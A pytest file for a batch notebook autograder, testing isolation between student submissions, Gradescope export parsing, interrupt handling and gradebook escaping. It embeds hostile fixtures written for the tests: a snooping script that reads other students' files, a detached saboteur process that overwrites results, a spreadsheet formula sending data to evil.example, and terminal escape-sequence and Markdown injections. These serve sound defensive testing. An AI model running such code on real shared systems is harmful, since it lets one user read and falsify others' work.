"""Batch grading: a class graded with warm graders, as isolated as grading each alone."""

from __future__ import annotations

import csv
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from dataclasses import replace
from pathlib import Path

import nbformat
import pytest

from conftest import FAST_LIMITS, notebook_from_cells, reference_source
from dlhw.autograder.batch import BatchError, find_submissions, grade_batch, grader_fingerprint
from dlhw.autograder.confinement import Limits, remove_tree
from dlhw.autograder.grading import grade
from dlhw.autograder.homeworks import get_homework
from dlhw.autograder.notebook import graded_cells
from dlhw.autograder.variants import load_variants, variant_notebook

HW = get_homework("hw1")
STUB = Path(__file__).resolve().parents[1] / "assignments" / "hw1_softmax" / "hw1_softmax.ipynb"

# Cross-student attacks, written for this test: read every other notebook or results file it
# can find, and plant a process that rewrites any it can reach later in the batch.
SNOOP = """
import glob, json, os
FOUND = []
for pattern in ("/tmp/dlhw-*/**/*.ipynb", "/tmp/pytest-of-*/**/*.ipynb",
                "/tmp/pytest-of-*/**/results.json", "/tmp/dlhw-*/**/results.json"):
    for path in glob.glob(pattern, recursive=True):
        try:
            with open(path) as fh:
                FOUND.append((path, fh.read(200)))
        except OSError:
            pass
NOTEBOOKS = [p for p, text in FOUND if p.endswith(".ipynb")]
def softmax_loss(Z, y):
    raise RuntimeError(f"read {len(FOUND)} files of others: {[p for p, _ in FOUND][:5]}")
"""
SABOTEUR = """
import glob, os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(400):
            for path in (glob.glob("/tmp/dlhw-*/**/*.*", recursive=True)
                         + glob.glob("/tmp/pytest-of-*/**/*.*", recursive=True)):
                try:
                    with open(path, "w") as fh:
                        fh.write('{"score": 999, "tests": []}')
                except OSError:
                    pass
            time.sleep(0.05)
        os._exit(0)
    os._exit(0)
"""


def write_class(folder: Path) -> dict[str, str]:
    """A small class: names -> what each is."""
    folder.mkdir(parents=True, exist_ok=True)
    nbformat.write(nbformat.read(HW.master, as_version=4), folder / "ada.ipynb")
    nbformat.write(nbformat.read(HW.stub, as_version=4), folder / "bo.ipynb")
    bugs = [v for v in load_variants(HW) if v.kind == "bug"][:2]
    for i, bug in enumerate(bugs):
        nbformat.write(variant_notebook(HW, bug), folder / f"bug{i}.ipynb")
    (folder / "cy.ipynb").write_text("this is not a notebook")
    (folder / "di").mkdir()
    nbformat.write(nbformat.read(HW.master, as_version=4), folder / "di" / HW.notebook_name)
    nbformat.write(notebook_from_cells([*reference_source(HW), SNOOP]), folder / "snoop.ipynb")
    nbformat.write(notebook_from_cells([SABOTEUR, *reference_source(HW)]), folder / "sab.ipynb")
    return {}


def write_slow_class(folder: Path, count: int, sleep_s: float) -> None:
    """`count` copies of the reference that first sleep `sleep_s` (time to press Ctrl-C)."""
    folder.mkdir()
    slow = nbformat.read(HW.master, as_version=4)
    slow.cells.insert(1, nbformat.v4.new_code_cell(f"import time\ntime.sleep({sleep_s})"))
    for i in range(count):
        nbformat.write(slow, folder / f"s{i:02d}.ipynb")


def summary(results: dict) -> tuple[float, list[tuple[str, str]]]:
    return results["score"], [(t["name"], t["status"]) for t in results["tests"]]


def test_submissions_are_found_one_per_student(tmp_path: Path) -> None:
    (tmp_path / "a.ipynb").write_text("{}")
    (tmp_path / "b b").mkdir()
    (tmp_path / "notes.txt").write_text("x")
    (tmp_path / ".hidden.ipynb").write_text("{}")
    (tmp_path / "link.ipynb").symlink_to(tmp_path / "a.ipynb")
    items = find_submissions(tmp_path)
    assert [(i.key, i.students) for i in items] == [("a", ("a",)), ("b_b", ("b b",))]


def test_submissions_made_unique_never_take_anothers_key(tmp_path: Path) -> None:
    """A folder and a notebook of one name, and a student named as the suffix the second would
    get: three folders of results (and three scripts for export), none written over another;
    keys differ whatever their case, as folders on a Mac's or Windows' disk must."""
    (tmp_path / "a").mkdir()
    for name in ("a.ipynb", "a-2.ipynb", "Ann.ipynb", "ann.ipynb"):
        (tmp_path / name).write_text("{}")
    keys = [i.key for i in find_submissions(tmp_path)]
    assert keys == ["Ann", "a", "a-2", "a-3", "ann-2"], keys  # sorted: a/, a-2.ipynb, a.ipynb
    assert len({k.lower() for k in keys}) == len(keys)


def test_gradescope_export_names_the_students(tmp_path: Path) -> None:
    pytest.importorskip("yaml")  # the batch extra (absent from the Python 3.10 run, .ci/py310.sh)
    (tmp_path / "submission_101").mkdir()
    (tmp_path / "submission_102").mkdir()
    (tmp_path / "submission_metadata.yml").write_text(
        "submission_101:\n  :submitters:\n  - :name: Ada Lovelace\n    :sid: '007'\n"
        "    :email: ada@example.edu\n"
        "  :created_at: 2026-11-20 10:00:00.000000000 -08:00\n"
        "submission_102:\n  :submitters:\n  - :name: Bo\n    :email: bo@example.edu\n"
        "  - :name: Cy\n    :email: cy@example.edu\n"
    )
    items = find_submissions(tmp_path)
    assert [i.key for i in items] == ["submission_101", "submission_102"]
    assert items[0].students == ("Ada Lovelace <ada@example.edu>",)
    assert items[1].students == ("Bo <bo@example.edu>", "Cy <cy@example.edu>")
    assert items[0].sids == ("007",) and items[1].sids == ("", "")  # a roster without ids
    from dlhw.autograder.batch import Row
    from dlhw.autograder.gradebook import write_gradebook

    write_gradebook([Row(i.key, i.students, "not graded", sids=i.sids) for i in items], tmp_path)
    with (tmp_path / "gradebook.csv").open() as fh:
        assert [r["sids"] for r in csv.DictReader(fh)] == ["007", ""]


@pytest.mark.parametrize(
    "metadata, message",
    [
        ("101: [unclosed\n", "cannot be read as YAML: while parsing a flow sequence"),
        ("- a\n- list\n", "but it holds a list"),
        ("just text\n", "but it holds a str"),
        ("../../elsewhere:\n  :submitters: []\n", "names '../../elsewhere', which is not a folder"),
    ],
    ids=["yaml-syntax", "a-list", "a-string", "a-path-outside"],
)
def test_a_malformed_export_is_one_clear_error(tmp_path: Path, metadata, message) -> None:
    pytest.importorskip("yaml")
    (tmp_path / "submission_metadata.yml").write_text(metadata)
    with pytest.raises(BatchError, match=re.escape(message)):
        find_submissions(tmp_path)


def test_odd_export_entries_fall_back_to_the_submission_id(tmp_path: Path) -> None:
    pytest.importorskip("yaml")
    (tmp_path / "submission_metadata.yml").write_text(
        "12: just text\n7:\n  :submitters: not a list\n"
        "a:\n  :submitters:\n  - Ann\n  - :email: bo@example.edu\n"
    )
    items = find_submissions(tmp_path)  # ids that YAML reads as numbers sort with the others
    assert [(i.key, i.students) for i in items] == [
        ("12", ("12",)), ("7", ("7",)), ("a", ("Ann", "bo@example.edu")),
    ]  # fmt: skip


def test_an_export_entry_without_its_folder_is_graded_as_nothing_submitted(tmp_path: Path) -> None:
    pytest.importorskip("yaml")
    folder = tmp_path / "export"
    folder.mkdir()
    (folder / "submission_metadata.yml").write_text("gone:\n  :submitters: []\n")
    rows = grade_batch(HW, folder, tmp_path / "out", jobs=1, limits=FAST_LIMITS)
    assert [(r.key, r.status, r.score) for r in rows] == [("gone", "unreadable", 0.0)]


@pytest.mark.parametrize(
    "layout, message",
    [
        ("out-inside", "is inside the submissions folder"),
        ("out-is-input", "is inside the submissions folder"),
        ("out-is-a-file", "is a file, not a folder"),
        ("out-unwritable", "cannot write the output folder /proc/out"),
        ("no-submissions", "holds no submissions"),
    ],
)
def test_cli_batch_refuses_folders_it_cannot_use_before_grading(
    tmp_path: Path, capsys, layout, message
) -> None:
    pytest.importorskip("tqdm")  # the batch extra (absent from the Python 3.10 run)
    from dlhw.autograder.cli import main

    folder = tmp_path / "class"
    folder.mkdir()
    if layout != "no-submissions":
        (folder / "ada.ipynb").write_text("{}")
    out = {
        "out-inside": folder / "out", "out-is-input": folder, "out-unwritable": Path("/proc/out"),
        "out-is-a-file": tmp_path / "notes.txt", "no-submissions": tmp_path / "out",
    }[layout]  # fmt: skip
    (tmp_path / "notes.txt").write_text("kept")
    assert main(["batch", "hw1", str(folder), "-o", str(out), "-q"]) == 1
    err = capsys.readouterr().err
    assert message in err and err.count("\n") == 1 and "Traceback" not in err, err
    assert sorted(p.name for p in folder.iterdir()) == (
        [] if layout == "no-submissions" else ["ada.ipynb"]
    )
    assert not (tmp_path / "out").exists() and (tmp_path / "notes.txt").read_text() == "kept"


@pytest.mark.parametrize("layout", ["other-homework", "other-files"])
def test_batch_refuses_an_output_folder_it_would_overwrite(tmp_path: Path, layout) -> None:
    folder, out = tmp_path / "class", tmp_path / "out"
    folder.mkdir()
    (folder / "ada.ipynb").write_text("{}")
    if layout == "other-homework":  # hw2's batch graded ada before: hw1 would overwrite it
        (out / "results" / "ada").mkdir(parents=True)
        (out / "results" / "ada" / ".grading-key").write_text("hw2:abc:def:123\n")
        (out / "results" / "ada" / "results.json").write_text("{}")
        message = "holds results of hw2, not hw1"
    else:  # -o ~/Documents
        out.mkdir()
        (out / "notes.txt").write_text("kept")
        message = "already holds files and is not a batch's output folder"
    before = sorted(str(p) for p in out.rglob("*"))
    with pytest.raises(BatchError, match=re.escape(message)):
        grade_batch(HW, folder, out, jobs=1)
    assert sorted(str(p) for p in out.rglob("*")) == before


def test_a_rerun_with_other_limits_grades_again_and_the_summary_names_the_homework(
    tmp_path: Path,
) -> None:
    folder, out = tmp_path / "class", tmp_path / "out"
    folder.mkdir()
    nbformat.write(nbformat.read(HW.stub, as_version=4), folder / "bo.ipynb")
    assert [r.status for r in grade_batch(HW, folder, out, jobs=1, limits=FAST_LIMITS)] == [
        "graded"
    ]
    assert [r.status for r in grade_batch(HW, folder, out, jobs=1, limits=FAST_LIMITS)] == [
        "unchanged"
    ]
    longer = replace(FAST_LIMITS, call_timeout_s=FAST_LIMITS.call_timeout_s * 2)
    assert [r.status for r in grade_batch(HW, folder, out, jobs=1, limits=longer)] == ["graded"]
    title = (out / "summary.md").read_text().splitlines()[0]
    assert title == f"# Class summary: hw1 ({HW.title}), {folder}: 1 submission", title


def test_the_fingerprint_changes_with_the_hidden_tests(tmp_path: Path, monkeypatch) -> None:
    first = grader_fingerprint(HW)
    assert first == grader_fingerprint(HW)
    copy = tmp_path / "solutions" / HW.slug
    (copy / "tests").mkdir(parents=True)
    for name in ("homework.toml", "public_tests.py"):
        (copy / name).write_text((HW.solution_dir / name).read_text())
    for test in (HW.solution_dir / "tests").iterdir():  # tests and their recorded oracles
        if test.is_file():
            (copy / "tests" / test.name).write_bytes(test.read_bytes())
    moved = replace(HW, root=tmp_path)
    assert grader_fingerprint(moved) == first
    (copy / "tests" / HW.hidden_tests[0].name).write_text("# changed\n")
    assert grader_fingerprint(moved) != first


@pytest.mark.slow
@pytest.mark.torch
def test_a_class_graded_in_batch_scores_as_each_alone(tmp_path: Path) -> None:
    folder, out = tmp_path / "class", tmp_path / "out"
    write_class(folder)
    rows = grade_batch(HW, folder, out, jobs=2, limits=FAST_LIMITS)
    by_key = {r.key: r for r in rows}
    assert by_key["ada"].score == by_key["ada"].max_score > 20
    assert by_key["di"].score == by_key["ada"].max_score  # a folder upload
    assert by_key["bo"].score == 0 and by_key["cy"].status == "unreadable"
    assert by_key["snoop"].score < by_key["ada"].max_score
    for item in find_submissions(folder):
        alone = grade(HW, item.path, tmp_path / "alone" / item.key / "r.json", limits=FAST_LIMITS)
        batch = json.loads((out / "results" / item.key / "results.json").read_text())
        assert summary(batch) == summary(alone.results), item.key
    snooped = json.loads((out / "results" / "snoop" / "results.json").read_text())
    loss = next(t for t in snooped["tests"] if t["name"].startswith("softmax_loss: matches"))
    assert "read 0 files of others" in loss["output"], loss["output"]
    # The gradebook and the class summary.
    with (out / "gradebook.csv").open() as fh:
        table = list(csv.DictReader(fh))
    assert {r["submission"] for r in table} == set(by_key)
    assert next(r for r in table if r["submission"] == "ada")["total"] == f"{by_key['ada'].score:g}"
    book = json.loads((out / "gradebook.json").read_text())
    assert {r["key"] for r in book} == set(by_key)
    text = (out / "summary.md").read_text()
    assert "## Tests, hardest first" in text and "not implemented yet" in text
    assert (out / "scores.png").stat().st_size > 1000 and (out / "pass_rates.png").exists()
    assert (os.stat(out / "results").st_mode & 0o077) == 0
    # A re-run grades nothing that did not change, and then only what changed.
    again = grade_batch(HW, folder, out, jobs=2, limits=FAST_LIMITS)
    assert {r.status for r in again} == {"unchanged"}
    nbformat.write(nbformat.read(HW.stub, as_version=4), folder / "ada.ipynb")
    third = {r.key: r for r in grade_batch(HW, folder, out, jobs=2, limits=FAST_LIMITS)}
    assert third["ada"].status == "graded" and third["ada"].score == 0
    assert {r.status for k, r in third.items() if k != "ada"} == {"unchanged"}


@pytest.mark.slow
@pytest.mark.torch
def test_ctrl_c_stops_the_batch_and_keeps_what_finished(tmp_path: Path) -> None:
    folder, out = tmp_path / "class", tmp_path / "out"
    folder.mkdir()
    for i in range(12):
        nbformat.write(nbformat.read(HW.master, as_version=4), folder / f"s{i:02d}.ipynb")
    cli = Path(sys.executable).with_name("autograder")
    proc = subprocess.Popen(
        [str(cli), "batch", "hw1", str(folder), "-o", str(out), "-j", "1", "-q"],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline and not list((out / "results").glob("*/.grading-key")):
        time.sleep(0.2)
    proc.send_signal(signal.SIGINT)
    _, err = proc.communicate(timeout=120)
    assert proc.returncode == 130, err
    assert "interrupted" in err
    book = json.loads((out / "gradebook.json").read_text())
    finished = [r for r in book if r["status"] == "graded"]
    assert finished and len(finished) < 12
    assert {r["status"] for r in book} <= {"graded", "not graded"}
    rerun = grade_batch(HW, folder, out, jobs=2, limits=Limits())  # the CLI's: the same key
    assert sum(r.status == "unchanged" for r in rerun) == len(finished)
    assert all(r.score == r.max_score for r in rerun)


def test_one_ctrl_c_grades_no_submission_that_had_not_started(tmp_path: Path) -> None:
    """The first Ctrl-C waits for the submissions being graded, and starts no other: the pool
    used to hold one more in its call queue, past cancel()'s reach, which was graded too."""
    pytest.importorskip("tqdm")  # the batch extra (absent from the Python 3.10 run)
    folder, out = tmp_path / "class", tmp_path / "out"
    write_slow_class(folder, count=5, sleep_s=3)
    scratch = Path(tempfile.mkdtemp(prefix="batch-one-ctrl-c-", dir="/tmp"))
    os.chmod(scratch, 0o1777)
    try:
        cli = Path(sys.executable).with_name("autograder")
        proc = subprocess.Popen(
            [str(cli), "batch", "hw1", str(folder), "-o", str(out), "-j", "2", "-q"],
            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
            env={**os.environ, "TMPDIR": str(scratch)},
        )  # fmt: skip
        deadline = time.monotonic() + 120
        while time.monotonic() < deadline and len(list(scratch.glob("dlhw-worker-*"))) < 2:
            time.sleep(0.05)  # both jobs are grading a submission
        proc.send_signal(signal.SIGINT)
        _, err = proc.communicate(timeout=120)
        assert proc.returncode == 130, err
    finally:
        shutil.rmtree(scratch, ignore_errors=True)
    book = json.loads((out / "gradebook.json").read_text())
    assert [r["status"] for r in book].count("graded") == 2, book


def test_cli_batch_refuses_a_missing_folder(tmp_path: Path, capsys) -> None:
    from dlhw.autograder.cli import main

    assert main(["batch", "hw1", str(tmp_path / "nope"), "-o", str(tmp_path / "out")]) == 1
    assert "not a folder of submissions" in capsys.readouterr().err


def test_a_job_warms_up_the_grading_code_without_torch():
    """A batch grades with recorded oracles: its jobs import pytest and the grader, not torch."""
    probe = (
        "import sys\n"
        "from dlhw.autograder.batch import _warm_up\n"
        "from dlhw.autograder.confinement import Limits\n"
        "_warm_up('hw1', Limits(), None)\n"
        "print(sorted(m for m in ('torch', 'pytest', 'dlhw.autograder.grading', 'nbformat',\n"
        "    'jsonschema') if m in sys.modules))\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", probe], capture_output=True, text=True, timeout=120
    )
    assert done.returncode == 0, done.stderr[-2000:]
    assert done.stdout.split("\n")[-2] == (
        "['dlhw.autograder.grading', 'jsonschema', 'nbformat', 'pytest']"
    )


def test_the_class_summary_and_gradebook_show_student_text_as_text(tmp_path: Path) -> None:
    """A failure's first line quotes the submission (an exception's message): in the summary it
    is code, so a student cannot put links, images or HTML in the staff's Markdown; and a name
    a student chose (Gradescope's export) never runs as a spreadsheet formula."""
    from dlhw.autograder.batch import Row
    from dlhw.autograder.gradebook import write_gradebook

    said = "f raised RuntimeError: ![x](http://evil.example/p.png) <img src=x> [a](u) `b` | c"
    rows = [
        Row("s1", ('=HYPERLINK("http://evil.example/?"&A2, "grade")',), "graded", 0.0, 1.0,
            tests={"t": 0.0}, test_max={"t": 1.0}, feedback={"t": said}),
        Row("s2", ("Bo",), "graded", 1.0, 1.0, tests={"t": 1.0}, test_max={"t": 1.0}),
    ]  # fmt: skip
    write_gradebook(rows, tmp_path)
    line = next(ln for ln in (tmp_path / "summary.md").read_text().splitlines() if "evil" in ln)
    quoted = "``" + said.replace("|", "\\|") + "``"  # code (a run of 2 closes it, not `b`)
    assert line.endswith(f"| {quoted} (1) |"), line
    with (tmp_path / "gradebook.csv").open() as fh:
        table = list(csv.DictReader(fh))
    assert table[0]["students"].startswith("'=HYPERLINK") and table[1]["students"] == "Bo"


def test_names_from_the_export_and_file_names_reach_the_gradebook_and_terminal_as_text(
    tmp_path: Path, capsys
) -> None:
    """Names a student chose (Gradescope's export) and file names from an upload were written
    as they were: escape sequences went raw into gradebook.csv (`cat` ran them on the
    instructor's terminal) and to the terminal through `export`'s "left out" lines; a file name
    that is not UTF-8 ("\xe9l\xe8ve.ipynb" from a zip made on Windows) stopped the writing of
    the gradebook after the whole class had been graded; and a formula behind a space or in
    full-width signs was not quoted."""
    pytest.importorskip("yaml")
    from dlhw.autograder.batch import Row
    from dlhw.autograder.cli import main
    from dlhw.autograder.gradebook import write_gradebook

    export = tmp_path / "export"
    export.mkdir()
    (export / "submission_metadata.yml").write_text(
        'a:\n  :submitters:\n  - :name: "\\e]2;pwned\\a\\e[2JAnn"\n    :sid: " =1+1"\n'
        'b:\n  :submitters:\n  - :name: "\\uFF1DHYPERLINK(1)"\n    :sid: "\\t@SUM(1)"\n'
    )
    files = tmp_path / "files"
    files.mkdir()
    shutil.copy(STUB, Path(os.fsdecode(bytes(files) + b"/\xe9l\xe8ve.ipynb")))
    items = find_submissions(export) + find_submissions(files)
    assert [i.students for i in items] == [
        ("\\x1b]2;pwned\\x07\\x1b[2JAnn",),
        ("\uff1dHYPERLINK(1)",),
        ("\ufffdl\ufffdve",),
    ]
    out = tmp_path / "out"
    out.mkdir()
    write_gradebook([Row(i.key, i.students, "not graded", sids=i.sids) for i in items], out)
    text = (out / "gradebook.csv").read_text(encoding="utf-8")
    assert "\x1b" not in text
    with (out / "gradebook.csv").open(encoding="utf-8") as fh:
        table = list(csv.DictReader(fh))
    assert [(r["students"][:2], r["sids"][:2]) for r in table] == [
        ("\\x", "' "),
        ("'\uff1d", "'\t"),
        ("\ufffdl", ""),
    ]
    eve = tmp_path / "class" / "eve"
    eve.mkdir(parents=True)
    (eve / "x\x1b]2;pwned\x07\x1b[2J.ipynb").write_text("")
    assert main(["export", "hw1", str(tmp_path / "class"), "-o", str(tmp_path / "scripts")]) == 0
    printed = capsys.readouterr().out
    assert "left out eve: x\\x1b]2;pwned" in printed and "\x1b" not in printed


@pytest.mark.slow
def test_a_job_stopping_is_not_interrupted_again_while_it_cleans_up(monkeypatch) -> None:
    """Once a job's grading is interrupted (SIGTERM), it closes the session, then ends. Another
    SIGTERM meanwhile, such as the pool's own when another job has ended (a "broken" pool, it
    terminates the rest), must not interrupt that cleanup (it left folders behind)."""
    from dlhw.autograder import batch

    monkeypatch.setattr(batch, "_JOB", {"grading": True})
    with pytest.raises(KeyboardInterrupt):
        batch._stop_at_once(signal.SIGTERM, None)
    try:
        batch._stop_at_once(signal.SIGTERM, None)  # returns: the job is already stopping
    except KeyboardInterrupt:
        pytest.fail("a second SIGTERM interrupted the job's cleanup")


def test_a_stop_that_arrives_while_a_session_closes_waits_for_the_close(monkeypatch) -> None:
    """SIGTERM in the middle of Session.close() (or of its set-up) would leave that session's
    folders, cgroup or processes behind: the job lets it finish and stops once grade() returns,
    without the submission's key (a re-run grades it)."""
    from dlhw.autograder import batch
    from dlhw.autograder.session import Session

    monkeypatch.setattr(batch, "_JOB", {"grading": True})
    session = Session(FAST_LIMITS)
    session.run_cells([(0, "x = 1")])
    seen = []
    original = Session._close

    def close_interrupted(self):
        try:
            batch._stop_at_once(signal.SIGTERM, None)  # arrives half-way: must not raise
            seen.append("raised nothing")
        except KeyboardInterrupt:
            seen.append("interrupted the close")
        original(self)

    monkeypatch.setattr(Session, "_close", close_interrupted)
    session.close()
    assert seen == ["raised nothing"] and batch._JOB["stopping"]
    assert not session.workdir.exists() and not session.shared_dir.exists()
    exits = []
    monkeypatch.setattr(batch.os, "_exit", lambda code: exits.append(code))
    import dlhw.autograder.grading as grading

    monkeypatch.setattr(grading, "grade", lambda *a, **k: None)
    batch._JOB["hw"] = batch._JOB["limits"] = None
    try:
        batch._grade_in_job(None, "x", "y", "k")  # type: ignore[arg-type]
    except Exception:  # noqa: BLE001 - os._exit is mocked: what follows it may fail
        pass
    assert exits[:1] == [batch.EXIT_STOPPED]  # grade() returned: the job stops, writing no key


def test_a_stop_that_arrives_while_a_session_is_set_up_closes_it_once_set_up(monkeypatch) -> None:
    """SIGTERM during Session() lets the set-up finish, but not the whole grading run that would
    follow (minutes for a slow submission, against 'Ctrl-C twice: at once'): the session is
    closed as soon as it is set up, folders removed, and KeyboardInterrupt raised."""
    import tempfile

    from dlhw.autograder import batch
    from dlhw.autograder import session as session_module
    from dlhw.autograder.session import Session

    monkeypatch.setattr(batch, "_JOB", {"grading": True})
    original = session_module.become_subreaper
    seen = []

    def subreaper_interrupted():
        try:
            batch._stop_at_once(signal.SIGTERM, None)  # arrives half-way: must not raise here
            seen.append("raised nothing")
        except KeyboardInterrupt:
            seen.append("interrupted the set-up")
        original()

    def ours() -> set[str]:
        return {p for p in os.listdir(tempfile.gettempdir()) if p.startswith("dlhw-")}

    before = ours()
    monkeypatch.setattr(session_module, "become_subreaper", subreaper_interrupted)
    try:
        Session(FAST_LIMITS).close()  # closed here when the stop is not acted on: no leftovers
    except KeyboardInterrupt:
        pass
    else:
        pytest.fail("the session was set up and the stop not acted on")
    assert seen == ["raised nothing"] and batch._JOB["stopping"]
    assert ours() <= before  # the set-up session was closed: its folders are gone
    with Session(FAST_LIMITS) as later:  # the stop was acted on: not left for another session
        later.run_cells([(0, "x = 1")])


def test_a_stop_just_after_a_session_is_set_up_still_closes_it(monkeypatch) -> None:
    """Between Session() returning and grade() holding it, nothing defers a SIGTERM: raised
    there, it reaches the job with the session open and held by nobody. The job closes every
    open session before it ends (its folders would be left behind)."""
    import tempfile

    from dlhw.autograder import batch
    from dlhw.autograder import grading as grading_module
    from dlhw.autograder.session import Session

    def ours() -> set[str]:
        return {p for p in os.listdir(tempfile.gettempdir()) if p.startswith("dlhw-")}

    def grade_stopped_after_set_up(*args, **kwargs):
        Session(FAST_LIMITS).run_cells([(0, "x = 1")])  # set up, worker started, then dropped
        raise KeyboardInterrupt  # what _stop_at_once raises outside set-up and close

    before = ours()
    monkeypatch.setattr(batch, "_JOB", {"hw": None, "limits": None})
    monkeypatch.setattr(grading_module, "grade", grade_stopped_after_set_up)
    exits = []
    monkeypatch.setattr(batch.os, "_exit", lambda code: exits.append(code))
    try:
        batch._grade_in_job(None, "x", "y", "k")  # type: ignore[arg-type]
    except Exception:  # noqa: BLE001 - os._exit is mocked: what follows it may fail
        pass
    assert exits[:1] == [batch.EXIT_STOPPED]
    assert ours() <= before  # the dropped session was closed: its folders are gone


def test_a_stopping_job_closes_every_open_session_and_exits_even_if_one_close_fails(
    monkeypatch,
) -> None:
    """A close that fails (a folder it could not remove) must neither keep the job from closing
    the other open sessions nor from exiting as stopped (it would return an exception instead,
    and the batch would list the submission as a grader failure)."""
    from dlhw.autograder import batch
    from dlhw.autograder import grading as grading_module
    from dlhw.autograder import session as session_module

    closed: list[str] = []

    class Open:
        def __init__(self, name: str, fails: bool) -> None:
            self.name, self.fails = name, fails

        def close(self) -> None:
            closed.append(self.name)
            if self.fails:
                raise OSError("cannot remove the worker's folder")

    def grade_stopped(*args, **kwargs):
        raise KeyboardInterrupt

    opened = [Open("a", True), Open("b", True)]
    monkeypatch.setattr(session_module, "OPEN_SESSIONS", set(opened))
    monkeypatch.setattr(batch, "_JOB", {"hw": None, "limits": None})
    monkeypatch.setattr(grading_module, "grade", grade_stopped)
    exits = []

    def stop(code: int) -> None:
        exits.append(code)
        raise SystemExit(code)  # os._exit does not return

    monkeypatch.setattr(batch.os, "_exit", stop)
    with pytest.raises(SystemExit):
        batch._grade_in_job(None, "x", "y", "k")  # type: ignore[arg-type]
    assert exits == [batch.EXIT_STOPPED]
    assert sorted(closed) == ["a", "b"]


@pytest.mark.parametrize(
    "second_after_s", [None, 0.0, 1.0], ids=["once", "delivered-twice", "twice"]
)
def test_ctrl_c_leaves_no_worker_folders_and_keeps_what_finished(
    tmp_path: Path, second_after_s
) -> None:
    """A terminal's Ctrl-C reaches the whole process group. Once: the batch waits for what is
    being graded. Twice: it stops at once, and each job still closes its submission's session
    (before, the jobs were killed and left their worker folders). timeout(1) delivers one
    Ctrl-C twice, to the process and then its group: that counts once."""
    pytest.importorskip("tqdm")  # the batch extra (absent from the Python 3.10 run)
    folder, out = tmp_path / "class", tmp_path / "out"
    write_slow_class(folder, count=10, sleep_s=1)
    scratch = Path(tempfile.mkdtemp(prefix="batch-ctrl-c-", dir="/tmp"))  # the sandbox can enter
    os.chmod(scratch, 0o1777)
    try:
        cli = Path(sys.executable).with_name("autograder")
        proc = subprocess.Popen(
            [str(cli), "batch", "hw1", str(folder), "-o", str(out), "-j", "2", "-q"],
            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, start_new_session=True,
            env={**os.environ, "TMPDIR": str(scratch)},
        )  # fmt: skip
        deadline = time.monotonic() + 120
        while time.monotonic() < deadline and not list((out / "results").glob("*/.grading-key")):
            time.sleep(0.1)
        os.killpg(proc.pid, signal.SIGINT)
        if second_after_s is not None:
            time.sleep(second_after_s)
            os.killpg(proc.pid, signal.SIGINT)
        _, err = proc.communicate(timeout=120)
        assert proc.returncode == 130 and "Traceback" not in err, err
        assert os.listdir(scratch) == []  # every worker's and every session's folder is gone
    finally:
        shutil.rmtree(scratch, ignore_errors=True)
    book = json.loads((out / "gradebook.json").read_text())
    graded = {r["key"] for r in book if r["status"] == "graded"}
    assert graded and {r["status"] for r in book} <= {"graded", "not graded"}
    for key in graded:  # each with its key, so that a re-run keeps it
        assert (out / "results" / key / ".grading-key").is_file()
    interrupted = [
        p.parent.name
        for p in (out / "results").glob("*/results.json")
        if "interrupted" in json.loads(p.read_text())["output"]
    ]
    if second_after_s == 1.0:
        assert not set(interrupted) & graded
    else:  # what was being graded finished
        assert interrupted == []


def _deep(folder: Path, levels: int) -> None:
    """`levels` nested folders under `folder`, without recursion, and a file at the bottom."""
    here = folder
    for _ in range(levels):
        here = here / "d"
        here.mkdir()
    (here / "notes.txt").write_text("deep")


def test_an_upload_deep_or_with_a_named_pipe_fails_no_other_submission(tmp_path: Path) -> None:
    """One student's upload folder 1,500 folders deep, or holding a named pipe, stopped the
    whole batch (RecursionError in the digest and in copytree; shutil.Error for the pipe)."""
    stub = STUB
    folder = tmp_path / "class"
    for name in ("deep", "pipe", "plain"):
        (folder / name).mkdir(parents=True)
        shutil.copy(stub, folder / name / stub.name)
    _deep(folder / "deep", 1500)
    os.mkfifo(folder / "pipe" / "fifo")
    try:
        rows = grade_batch(HW, folder, tmp_path / "out", jobs=1, limits=FAST_LIMITS)
    finally:
        remove_tree(folder / "deep")  # pytest's own clean-up of tmp_path recurses
    assert [(r.key, r.status) for r in rows] == [(n, "graded") for n in ("deep", "pipe", "plain")]


def test_a_changed_upload_is_graded_again_however_its_bytes_line_up(tmp_path: Path) -> None:
    """The re-run's skip joined names and contents with NUL bytes: a file `a` holding
    "X NUL hw1_softmax.ipynb NUL <stub>" beside the reference read like `a` = "X" beside the
    stub named as the homework's notebook, which is what grading picks. The second upload
    grades 0 but kept the first's 33/33 as "unchanged" (docs/attacks/same_digest_upload.py)."""
    folder, out = tmp_path / "class", tmp_path / "out"
    ann = folder / "ann"
    ann.mkdir(parents=True)
    shutil.copy(HW.master, ann / "zz.ipynb")
    (ann / "a").write_bytes(b"X\0" + HW.notebook_name.encode() + b"\0" + STUB.read_bytes())
    first = grade_batch(HW, folder, out, jobs=1, limits=FAST_LIMITS)
    assert [(r.status, r.score) for r in first] == [("graded", first[0].max_score)]
    (ann / "a").write_bytes(b"X")
    shutil.copy(STUB, ann / HW.notebook_name)
    again = grade_batch(HW, folder, out, jobs=1, limits=FAST_LIMITS)
    assert [(r.status, r.score) for r in again] == [("graded", 0.0)]
    (ann / HW.notebook_name).unlink()  # a link in its place: where it points is read too
    (ann / HW.notebook_name).symlink_to("zz.ipynb")
    assert [r.status for r in grade_batch(HW, folder, out, jobs=1, limits=FAST_LIMITS)] == [
        "graded"
    ]  # the link is ignored: zz.ipynb is graded
    (ann / HW.notebook_name).unlink()
    (ann / HW.notebook_name).symlink_to("/etc/hostname")  # a link out of the upload is refused
    assert [r.status for r in grade_batch(HW, folder, out, jobs=1, limits=FAST_LIMITS)] == [
        "unreadable"
    ]


def test_a_file_name_that_is_not_utf8_fails_no_submission(tmp_path: Path) -> None:
    """A name of raw bytes in one upload (a zip made on another system, unpacked) stopped the
    whole batch with a UnicodeEncodeError while the re-run keys were computed."""
    folder = tmp_path / "class"
    for name in ("odd", "plain"):
        (folder / name).mkdir(parents=True)
        shutil.copy(HW.master, folder / name / HW.notebook_name)
    (Path(os.fsdecode(bytes(folder / "odd") + b"/\xff-notes.txt"))).write_text("x")
    rows = grade_batch(HW, folder, tmp_path / "out", jobs=1, limits=FAST_LIMITS)
    assert [(r.key, r.status, r.score) for r in rows] == [
        (n, "graded", rows[0].max_score) for n in ("odd", "plain")
    ]


